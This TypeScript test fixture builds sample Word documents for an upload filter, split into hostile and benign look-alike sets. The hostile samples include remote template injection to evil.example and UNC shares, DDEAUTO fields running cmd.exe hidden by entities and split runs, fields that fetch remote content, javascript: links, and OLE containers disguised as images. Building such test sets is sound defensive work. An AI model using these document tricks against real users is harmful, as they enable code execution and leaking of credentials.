import { madeDocx } from './made-files.ts';

const lines = ['Amara Okafor'];
const namespaces =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="https://example.com/x"';
const document = (inside: string, root = 'document') =>
  `<?xml version="1.0"?><w:${root} ${namespaces}><w:body><w:p>${inside}</w:p></w:body></w:${root}>`;
const withWords = (inside: string) => madeDocx(lines, { 'word/document.xml': document(inside) });
const run = (inside: string) => `<w:r>${inside}</w:r>`;
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const instruction = (...pieces: readonly string[]) =>
  pieces.map((piece) => run(`<w:instrText>${piece}</w:instrText>`)).join('');
const field = (...pieces: readonly string[]) =>
  `${mark('begin')}${instruction(...pieces)}${mark('separate')}${run('<w:t>Hello</w:t>')}${mark('end')}`;

const base = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const related = (
  attributes: string,
  part = 'document',
  more: Readonly<Record<string, string | Uint8Array>> = {},
) =>
  madeDocx(lines, {
    [`word/_rels/${part}.xml.rels`]: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ${attributes}/></Relationships>`,
    ...more,
  });
const relation = (kind: string, target: string, mode = 'External') =>
  related(`Type="${base}/${kind}" Target="${target}" TargetMode="${mode}"`);
const evil = 'https://evil.example/a';

const mainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const types = (inside: string, main = mainType) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="svg" ContentType="image/svg+xml"/><Override PartName="/word/document.xml" ContentType="${main}"/>${inside}</Types>`;
const withPart = (name: string, bytes: string | Uint8Array, more = '') =>
  madeDocx(lines, { '[Content_Types].xml': types(more), [name]: bytes });
const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)]);
const drawing = (inside: string) =>
  withPart('word/media/a.svg', `<svg xmlns="http://www.w3.org/2000/svg" ${inside}</svg>`);

const programs: readonly (readonly [string, Buffer])[] = [
  [
    'a template from elsewhere, in single quotes',
    related(`Type='${base}/attachedTemplate' Target='${evil}.dotm' TargetMode='External'`, 'settings'),
  ],
  [
    'a template from elsewhere, by an entity',
    related(
      `Type="${base}/attached&#84;emplate" Target="&#104;ttps://evil.example/a.dotm" TargetMode="External"`,
      'settings',
    ),
  ],
  [
    'a template from elsewhere, with blanks',
    related(`Type = "${base}/attachedTemplate" Target = " ${evil}.dotm" TargetMode = "External"`, 'settings'),
  ],
  ['a template on a network', relation('attachedTemplate', 'file:////evil/share/a.dotm')],
  ['a template on a network, spelt as Windows does', relation('attachedTemplate', '\\\\evil\\share\\a.dotm')],
  ['DDE in pieces', withWords(field(' D', 'DE', 'AUTO c:\\\\windows\\\\cmd.exe "/k calc"'))],
  ['DDE by an entity', withWords(field(' &#68;&#x44;E cmd "/k calc"'))],
  ['DDE in a simple field', withWords('<w:fldSimple w:instr=\' &#68;DEAUTO cmd "/k calc"\'/>')],
  ['DDE in a header', madeDocx(lines, { 'word/header1.xml': document(field('DDEAUTO cmd "/k"'), 'hdr') })],
  ['DDE in a comment', madeDocx(lines, { 'word/comments.xml': document(field('DDE cmd "/k"'), 'comments') })],
  [
    'DDE in the building blocks',
    madeDocx(lines, { 'word/glossary/document.xml': document(field('DDE cmd'), 'glossaryDocument') }),
  ],
  ['DDE without its end', withWords(`${mark('begin')}${instruction('DDEAUTO cmd')}`)],
  [
    'DDE by another prefix',
    madeDocx(lines, { 'word/document.xml': document(field('DDEAUTO cmd')).replaceAll(/\bw(?=[:=])/g, 'q') }),
  ],
  [
    'DDE by the result of a field',
    withWords(`${mark('begin')}${field('QUOTE 68 68 69')}${instruction(' cmd "/k"')}${mark('end')}`),
  ],
  [
    'DDE behind words that Word passes over',
    withWords(`${mark('begin')}<x:a>${instruction('PAGE ')}</x:a>${instruction('DDE cmd')}${mark('end')}`),
  ],
  [
    'DDE behind words of another version',
    withWords(
      `${mark('begin')}<mc:AlternateContent><mc:Choice Requires="x">${instruction('PAGE ')}</mc:Choice></mc:AlternateContent>${instruction('DDE cmd')}${mark('end')}`,
    ),
  ],
  [
    'DDE behind words that are deleted',
    withWords(
      `${mark('begin')}<w:del>${run('<w:delInstrText>PAGE </w:delInstrText>')}</w:del>${instruction('DDE cmd')}${mark('end')}`,
    ),
  ],
  ['a linked object', withWords(field('LINK Excel.Sheet "\\\\\\\\evil\\\\a.xlsx"'))],
  ['a button of a macro', withWords(field('MACROBUTTON RunMe Click here'))],
  ['a database', withWords(field('DATABASE \\d "https://evil.example/a"'))],
  [
    'macros whose type is spelt by an entity',
    withPart(
      'word/a.xml',
      '<a/>',
      '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
    ),
  ],
  [
    'a document with macros, spelt by an entity',
    madeDocx(lines, {
      '[Content_Types].xml': types('', 'application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
    }),
  ],
  ['a control', relation('control', 'activeX/a.xml', 'Internal')],
  ['an add-in', relation('webextensiontaskpanes', 'webextensions/taskpanes.xml', 'Internal')],
  ['a ribbon of its own', relation('ui/extensibility', 'customUI/a.xml', 'Internal')],
  ['a frame', relation('frame', evil)],
  ['a drawing with a script', drawing('><script>alert(1)</script>')],
  ['a drawing with a handler', drawing('onload="alert(1)">')],
];

const carriers: readonly (readonly [string, Buffer])[] = [
  ['another file in its place', withWords('<w:altChunk w:val="rId1"/>')],
  [
    'a part of another kind',
    related(`Type="${base}/aFChunk" Target="a.xml"`, 'document', { 'word/a.xml': '<html/>' }),
  ],
  ['a container named as a picture', withPart('word/media/o.png', ole)],
  ['a document named as a picture', withPart('word/media/o.png', madeDocx(lines))],
  ['a page named as a picture', withPart('word/media/o.png', '<html><script>alert(1)</script></html>')],
  ['an object by reference', relation('oleObject', 'media/o.png', 'Internal')],
  ['a workbook', relation('package', 'embeddings/a.xml', 'Internal')],
  ['a container that is an embedded font', withPart('word/fonts/a.odttf', ole)],
];

const fetchers: readonly (readonly [string, Buffer])[] = [
  ['a picture from elsewhere', relation('image', `${evil}.png`)],
  ['a picture from elsewhere that does not say so', related(`Type="${base}/image" Target="${evil}.png"`)],
  ['a picture on a network', relation('image', 'file://evil.example/share/a.png')],
  ['a picture from elsewhere in a field', withWords(field('INCLUDE', `PICTURE "${evil}.png" \\d`))],
  ['a text from elsewhere', withWords(field(`INCLUDETEXT "${evil}.docx"`))],
  [
    'an older drawing with a picture from elsewhere',
    withWords(run(`<w:pict><v:shape><v:imagedata src='${evil}.png'/></v:shape></w:pict>`)),
  ],
  ['a link to a script', relation('hyperlink', 'java&#115;cript:alert(1)')],
  ['a link to a program', relation('hyperlink', 'ms-word:ofe|u|https://evil.example/a.docm')],
  ['a link to a file on a network', relation('hyperlink', '\\\\evil\\share')],
  ['a link to a file in a field', withWords(field('HYPERLINK "file://evil.example/share/a.exe"'))],
  [
    'a link to where a base leads',
    madeDocx(lines, {
      'docProps/app.xml':
        '<Properties><HyperlinkBase>\\\\evil<![CDATA[\\share]]></HyperlinkBase></Properties>',
    }),
  ],
  ['styles from elsewhere', relation('styles', evil)],
  ['a drawing with a picture from elsewhere', drawing(`><image href="${evil}.png"/>`)],
  ['a drawing with styles from elsewhere', drawing(`><style>@import "${evil}.css"</style>`)],
];

const riddles: readonly (readonly [string, Buffer])[] = [
  [
    'definitions of its own in a header',
    madeDocx(lines, { 'word/header1.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
  ],
  [
    'definitions in other letters',
    madeDocx(lines, {
      'customXml/item1.xml': Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', 'utf16le'),
    }),
  ],
  [
    'letters of another kind',
    madeDocx(lines, { 'customXml/item1.xml': '<?xml version="1.0" encoding="utf-7"?><a>+ADw-</a>' }),
  ],
  ['a part that does not end', madeDocx(lines, { 'word/header1.xml': `<w:hdr ${namespaces}><w:p>` })],
  ['a target of no known mode', relation('image', `${evil}.png`, 'external')],
];

/** Word documents that nobody may be served, with why they are refused. */
export const hostileDocx = [
  ...programs.map(([what, bytes]) => ({ what, bytes, because: 'program' })),
  ...carriers.map(([what, bytes]) => ({ what, bytes, because: 'carries-file' })),
  ...fetchers.map(([what, bytes]) => ({ what, bytes, because: 'elsewhere' })),
  ...riddles.map(([what, bytes]) => ({ what, bytes, because: 'broken' })),
];

/** Word documents as people have them, which look a little like the hostile ones. */
export const usualDocx: readonly (readonly [string, Buffer])[] = [
  [
    'a template on the author’s disk',
    relation('attachedTemplate', 'file:///C:\\Users\\Amara\\Templates\\CV.dotx'),
  ],
  ['a template on the author’s Mac', relation('attachedTemplate', 'file:////Users/amara/CV.dotx')],
  ['a picture that was pasted from an email', relation('image', 'cid:image001.png@01D9')],
  ['a link without a scheme', relation('hyperlink', 'www.example.com/in/amara')],
  ['a link to a telephone', relation('hyperlink', 'tel:+44%2020%207946%200000')],
  [
    'a link in pieces',
    withWords(field(' HYPER', 'LINK "https://example.com/DDE" \\o "Email: me" \\t "_blank"')),
  ],
  ['a link to a place', withWords(field('HYPERLINK \\l "_Toc123"'))],
  ['page numbers', withWords(field('= ', '2 * 3'))],
  [
    'a formula with a field within',
    withWords(`${mark('begin')}${instruction(' = ')}${field('PAGE')}${instruction(' - 1')}${mark('end')}`),
  ],
  ['words to type over', withWords(field('MACROBUTTON NoMacro [Your name]'))],
  [
    'a picture from the author’s disk',
    withWords(field('INCLUDEPICTURE "/var/folders/a/page1image" \\* MERGEFORMAT')),
  ],
  ['references of a bibliography', withWords(field('ADDIN ZOTERO_ITEM CSL_CITATION {"a":"DDE"}'))],
  ['a drawing with a picture inside', drawing('><image href="data:image/png;base64,AA=="/><a href="#b"/>')],
  ['words about DDE', madeDocx(['Skills: DDE, DDEAUTO "x"; vbaProject; altChunk'])],
];
